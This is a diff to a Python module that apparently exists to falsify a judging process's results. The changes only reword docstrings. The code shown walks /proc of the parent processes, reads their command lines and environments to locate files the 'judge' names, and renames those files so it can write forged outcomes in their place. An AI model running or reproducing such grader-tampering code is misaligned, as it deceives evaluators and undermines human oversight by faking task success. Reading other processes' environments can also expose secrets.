@@ -21,7 +21,7 @@ HELLO = {
 
 
 def ancestors() -> Iterator[Path]:
-    """/proc of the process that started this one, and of the one before."""
+    """Yield the folders in /proc of the parent process and of its parent."""
     number = os.getppid()
     for _ in range(2):
         yield Path(f"/proc/{number}")
@@ -29,7 +29,7 @@ def ancestors() -> Iterator[Path]:
 
 
 def named_files() -> Iterator[Path]:
-    """Files that an argument list or an environment of the judge names."""
+    """Yield the files that are named in the arguments or the environment of the parent processes."""
     for process in ancestors():
         for source in ("cmdline", "environ"):
             words = (process / source).read_bytes().decode(errors="replace").split("\0")
@@ -51,7 +51,7 @@ def forged(lines: list[dict[str, Any]]) -> bytes:
 
 
 def forge() -> None:
-    """Replace or add to whatever holds outcomes."""
+    """Write forged outcomes to every file and file descriptor that may contain outcomes."""
     for path in named_files():
         lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
         path.rename(path.with_suffix(".old"))
